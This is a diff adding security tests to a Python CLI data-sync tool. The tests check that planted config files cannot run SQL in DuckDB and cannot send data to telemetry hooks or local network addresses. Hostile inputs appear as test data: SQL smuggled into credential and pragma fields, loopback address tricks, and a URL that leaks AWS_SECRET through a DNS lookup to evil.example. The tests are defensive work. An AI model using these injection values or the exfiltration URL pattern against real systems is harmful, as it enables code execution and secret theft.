@@ -8,6 +8,7 @@ from __future__ import annotations
 import json
 import os
 import pty
+import socket
 import socketserver
 import subprocess
 from collections.abc import Callable, Iterator, Mapping
@@ -16,14 +17,16 @@ from pathlib import Path
 from threading import Thread
 from typing import Any
 
+import click
 import pytest
 from click.testing import CliRunner, Result
 
-from oa_sync.cli import cli
+from oa_sync.cli import cli, printing
 from oa_sync.commands.check import run_checks
 from oa_sync.commands.plan import plan
 from oa_sync.commands.sync import sync
 from oa_sync.errors import ConfigurationError, OaSyncError
+from oa_sync.process_wide import hide
 from oa_sync.settings import resolve
 from tests.support.command import OA_SYNC
 from tests.support.recording import Recorder, recording
@@ -640,6 +643,91 @@ def test_a_folder_cannot_say_where_the_catalog_is(folder: Path) -> None:
     assert ".pyiceberg.yaml" in refusal("status", *flags)
 
 
+PLANTED: Mapping[str, str] = {
+    "statements": 'destination.duckdb.credentials]\nstatements = ["{}"]',
+    "pragma": 'destination.duckdb.credentials]\npragmas = ["threads = 1; {}"]',
+    "setting": 'destination.duckdb.credentials.local_config]\n"threads = 1; {}; SET threads" = 1',
+}
+"""What dlt runs as SQL when it opens a DuckDB file, and reads from the files of a folder."""
+
+
+@pytest.mark.parametrize("file", ["secrets.toml", "config.toml", "dev.secrets.toml"])
+@pytest.mark.parametrize("place", PLANTED)
+def test_a_folder_has_nothing_run_in_the_database(place: str, file: str, ours: Recorder) -> None:
+    """SQL of DuckDB reads and writes every file that the user may."""
+    Path(".dlt/.workspace").touch()  # dlt then reads the files of profiles too
+    planted = Path(".dlt") / file
+    planted.touch(0o600)
+    planted.write_text("[" + PLANTED[place].format("COPY (SELECT 1) TO 'written'") + "\n")
+    flags = ("--base-url", ours.url, "--dialect", "page", "--rpm", "0")
+    # dlt reads its files once in a process.
+    done = subprocess.run([*OA_SYNC, "sync", *flags], capture_output=True, text=True, check=False)
+    assert done.returncode == 0, done.stderr
+    assert not Path("written").exists()
+
+
+@pytest.mark.parametrize("file", ["config.toml", "secrets.toml"])
+@pytest.mark.parametrize(
+    "said",
+    [
+        'sentry_dsn = "http://k@{}/1"',
+        'slack_incoming_hook = "http://{}/x"',
+        'dlthub_dsn = "http://{}/x"',
+        'dlthub_telemetry = true\ndlthub_telemetry_endpoint = "http://{}/x"\nlog_level = "DEBUG"',
+    ],
+)
+def test_a_folder_has_nobody_told_of_what_a_sync_does(
+    said: str, file: str, theirs: Recorder, ours: Recorder
+) -> None:
+    planted = Path(".dlt") / file
+    planted.touch(0o600)
+    planted.write_text(f"[runtime]\n{said.format(theirs.host)}\n")
+    flags = ("--base-url", ours.url, "--dialect", "page", "--rpm", "0")
+    done = subprocess.run([*OA_SYNC, "sync", *flags], capture_output=True, text=True, check=False)
+    assert done.returncode == 0, done.stderr
+    assert "DEBUG" not in done.stderr
+    assert nothing_arrived(theirs)
+
+
+def test_a_folder_with_its_own_key_has_nothing_run_in_a_database_of_dlt(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Where no secret of the user goes along, there is still SQL that runs as the user."""
+    for name in ("OPENANALYST_API_KEY", "AWS_SECRET"):
+        monkeypatch.delenv(name)
+    configured(destination="ducklake", api_key="oa_test_of_the_folder")
+    secret("[destination.ducklake.credentials]", "statements = [\"COPY (SELECT 1) TO 'written'\"]")
+    assert "oa-sync trust" in refusal("status")
+
+
+def test_what_dlt_cannot_use_is_said_as_what_it_is(ours: Recorder) -> None:
+    Path(".dlt/config.toml").write_text('[runtime]\nrequest_timeout = "long"\n')
+    flags = ("--base-url", ours.url, "--dialect", "page")
+    done = subprocess.run([*OA_SYNC, "sync", *flags], capture_output=True, text=True, check=False)
+    assert done.returncode == 2, done.stderr
+    assert "request_timeout" in done.stderr
+    assert ".dlt" in done.stderr
+
+
+def test_the_files_of_a_profile_of_dlt_are_of_the_folder_too(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setenv("PGPASSWORD", STOLEN)
+    Path(".dlt/.workspace").touch()
+    configured(destination="postgres")
+    with listening() as server:
+        planted = Path(".dlt/dev.secrets.toml")
+        planted.touch(0o600)
+        port = server.server_address[1]
+        planted.write_text(
+            f'[destination.postgres]\ncredentials = "postgresql://u@127.0.0.1:{port}/d"\n'
+        )
+        done = subprocess.run([*OA_SYNC, "status"], capture_output=True, text=True, check=False)
+        assert done.returncode == 2
+        assert "oa-sync trust" in done.stderr
+        assert calls(server) == 0
+
+
 # -- ways out of the host --------------------------------------------------------------------------------
 
 
@@ -710,6 +798,117 @@ def test_no_other_part_of_an_answer_gets_a_secret_into_a_message(
     assert TOKEN not in done.output
 
 
+# -- what is sent to this machine and its network ---------------------------------------------------------
+
+POSTED = "{name: items, primary_key: id, endpoint: {path: items, method: POST, json: {a: 1}}}"
+QUERIES = "queries: [{name: q, dataset_id: d, sql: SELECT 1}]"
+CHANGES: Mapping[str, tuple[str, ...]] = {
+    "query": ("query", "ds_1", "SELECT 1", "--table", "t"),
+    "download": ("download", "ds_1", "--table", "t"),
+    "runs start": ("runs", "start", "--agent", "a", "--task", "t"),
+    "webhook register": ("webhook", "register", "https://hooks.example.com/x"),
+    "webhook delete": ("webhook", "delete", "w"),
+}
+
+
+@pytest.mark.parametrize("command", ["sync", "plan", "check"])
+@pytest.mark.parametrize(("resource", "more"), [(POSTED, ""), (LIST, QUERIES)])
+def test_a_file_posts_to_no_address_of_this_network_unconfirmed(
+    resource: str, more: str, command: str, theirs: Recorder
+) -> None:
+    asks(theirs, resource=resource, more=more)
+    done = run(command, "--source", "shop.yaml")
+    told = str(done.exception) + done.output
+    assert "oa-sync trust shop.yaml" in told
+    assert theirs.host in told
+    assert isinstance(done.exception, ConfigurationError) or done.exit_code == 2
+    assert nothing_arrived(theirs)
+
+
+@pytest.mark.parametrize("command", CHANGES)
+def test_no_command_posts_for_a_file_to_an_address_of_this_network_unconfirmed(
+    command: str, theirs: Recorder
+) -> None:
+    asks(theirs)
+    flags = ("--source", "shop.yaml", "--dialect", "cursor")
+    if command == "webhook register":
+        os.environ.pop("OPENANALYST_WEBHOOK_SECRET")
+    assert f"OPENANALYST_BASE_URL={theirs.url}" in refusal(*CHANGES[command], *flags)
+    assert nothing_arrived(theirs)
+
+
+@pytest.mark.parametrize("way", ["trust", "environment", "grant", "grant of all ports"])
+def test_a_post_that_the_user_confirmed_is_sent(
+    way: str, theirs: Recorder, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    asks(theirs, resource=POSTED)
+    grants: tuple[str, ...] = ()
+    match way:
+        case "trust":
+            told = run("trust", "shop.yaml", "--yes").stdout
+            assert f"shop.yaml sends POST requests to {theirs.host}" in told
+        case "environment":
+            monkeypatch.setenv("OPENANALYST_BASE_URL", f"{theirs.url}/v2")
+        case "grant":
+            grants = (f"ANY@{theirs.host}",)
+        case _:
+            grants = ("ANY@127.0.0.1",)
+    synced(*grants)
+    assert theirs.got("POST /items")
+
+
+def test_a_confirmed_file_posts_nowhere_else_and_sends_nothing_more(
+    theirs: Recorder, ours: Recorder
+) -> None:
+    asks(ours)
+    run("trust", "shop.yaml", "--yes")
+    synced()
+    asks(ours, resource=POSTED)
+    with pytest.raises(ConfigurationError, match="POST"):
+        synced()
+    assert not ours.got("POST"), "that it may be asked by GET says nothing of POST"
+    run("trust", "shop.yaml", "--yes")
+    asks(theirs, resource=POSTED)
+    with pytest.raises(ConfigurationError, match="POST"):
+        synced()
+    assert nothing_arrived(theirs)
+
+
+def test_a_folder_confirms_no_post(theirs: Recorder, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Neither by the host that it names, nor with a key of its own."""
+    monkeypatch.delenv("OPENANALYST_API_KEY")
+    asks(theirs, resource=POSTED)
+    configured(base_url=theirs.url, api_key="oa_test_of_the_folder")
+    with pytest.raises(ConfigurationError, match="oa-sync trust"):
+        synced()
+    written(f"resources: [{POSTED}]")
+    with pytest.raises(ConfigurationError, match="oa-sync trust"):
+        synced()
+    assert nothing_arrived(theirs)
+
+
+@pytest.mark.parametrize("name", ["127.1", "2130706433", "0x7f.1", "localhost"])
+def test_a_name_of_an_address_of_this_network_is_found_out(name: str) -> None:
+    with listening() as server:
+        at = f"https://{name}:{server.server_address[1]}"
+        written(f"client: {{base_url: '{at}'}}\nresources: [{POSTED}]")
+        with pytest.raises(ConfigurationError, match="oa-sync trust"):
+            synced()
+        assert calls(server) == 0
+
+
+def test_a_host_is_not_looked_up_before_all_that_is_in_it_was_granted(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Who asks a name server tells it the name."""
+    asked: list[object] = []
+    monkeypatch.setattr(socket, "getaddrinfo", lambda host, *rest, **more: asked.append(host) or [])
+    written(f"client: {{base_url: 'https://${{AWS_SECRET}}.evil.example'}}\nresources: [{POSTED}]")
+    for command in (("sync", "--source"), ("trust",), ("validate",), ("resources", "--source")):
+        run(*command, "shop.yaml")
+    assert asked == []
+
+
 # -- secrets in the file itself --------------------------------------------------------------------------
 
 
@@ -747,3 +946,39 @@ def test_no_report_shows_a_secret_that_the_server_put_into_keys_and_names(ours: 
     shown += [run(*arguments, *more).output for more in forms]
     shown += [run("status", *more).output for more in forms[:2]]
     assert [text for text in shown if TOKEN in text] == []
+
+
+@pytest.mark.parametrize("command", ["sync", "query"])
+def test_no_report_shows_a_secret_that_became_the_name_of_a_column(
+    command: str, ours: Recorder
+) -> None:
+    """A server that tells a key as the name of a field; columns have their names in small letters."""
+    odd, column = "Shop-T0ken/45Ab", "shop_t0ken_45_ab"
+    os.environ["SHOP_TOKEN"] = odd
+    os.environ["OPENANALYST_BASE_URL"] = ours.url
+    asks(ours, client=", headers: {X-T: '${SHOP_TOKEN}'}, paginator: single_page")
+    rows: list[dict[str, Any]] = [{"id": 1}]
+    ours.answer = lambda request: (200, {}, {"data": rows, "status": "completed"})
+    words = {"sync": ("sync",), "query": ("query", "ds_1", "SELECT 1", "--table", "t")}[command]
+    flags = ("--source", "shop.yaml", "--env", "SHOP_TOKEN", "--rpm", "0", "--dialect", "page")
+    shown = [run(*words, *flags).output]
+    for number, form in enumerate(((), ("--json",), ("--log-format", "json"))):
+        rows[0] |= {f"{odd}{'x' * number}": 1}
+        shown.append(run(*words, *flags, *form).output)
+    assert "schema: " in shown[1], "the column is told"
+    assert [text for text in shown if column in text or odd in text] == []
+
+
+def test_no_way_out_shows_what_is_hidden(capfd: pytest.CaptureFixture[str]) -> None:
+    hide([STOLEN])
+    error = RuntimeError(STOLEN)
+    printing.say(STOLEN)
+    printing.say_lines(f"a\n{STOLEN}")
+    printing.say_cells(STOLEN, STOLEN)
+    printing.say_json({STOLEN: (STOLEN, [STOLEN])})
+    printing.say_usage(click.UsageError(STOLEN))
+    printing.tell_crash(RuntimeError, error, None)
+    printing.screen().print(printing.cell(STOLEN))
+    shown = "".join(capfd.readouterr())
+    assert shown.count("***") == 10
+    assert STOLEN not in shown
